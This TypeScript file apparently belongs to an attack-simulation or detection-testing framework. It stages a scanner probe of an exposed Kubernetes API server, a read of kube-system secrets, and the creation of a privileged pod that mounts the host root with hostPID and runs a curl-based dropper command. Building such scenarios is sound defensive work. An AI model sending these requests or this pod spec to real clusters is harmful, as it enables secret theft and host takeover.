// The audit log of the API server is on this host, which is the control plane.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { kubeApiserver } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  dress.toy(kubeApiserver)
}

export async function plant(stage: Stage): Promise<void> {
  const from = '203.0.113.88'
  const agent = { 'User-Agent': 'python-requests/2.31.0' }
  const line = dropper(stage, { path: '/var/tmp/kube-controller', fetch: 'curl', cron: false })
  await stage.http('192.0.2.50', ':6443/version', undefined, { 'User-Agent': 'zgrab/0.x' })
  await stage.http(from, ':6443/api/v1/namespaces', undefined, agent)
  await stage.http(from, ':6443/api/v1/namespaces/kube-system/secrets', undefined, agent)
  const container = { name: 'c', image: 'alpine', command: ['/bin/sh', '-c', line], volumeMounts: [{ name: 'h', mountPath: '/host' }] }
  const pod = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'kube-controller' },
    spec: { hostPID: true, containers: [container], volumes: [{ name: 'h', hostPath: { path: '/' } }] },
  }
  stage.mark('occurrence')
  await stage.http(from, ':6443/api/v1/namespaces/default/pods', JSON.stringify(pod), agent)
}
